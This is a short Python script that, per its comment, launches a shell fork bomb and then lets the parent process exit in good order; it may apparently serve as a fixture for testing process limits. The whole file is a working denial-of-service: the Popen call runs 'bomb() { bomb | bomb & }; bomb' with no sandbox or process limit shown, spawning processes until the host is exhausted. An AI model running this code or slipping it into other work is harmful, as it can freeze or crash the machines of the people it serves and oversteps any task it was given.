# A shell's fork bomb, whose parent goes on to end in good order.
import subprocess
import time

subprocess.Popen(["sh", "-c", "bomb() { bomb | bomb & }; bomb"], stderr=subprocess.DEVNULL)
time.sleep(0.5)
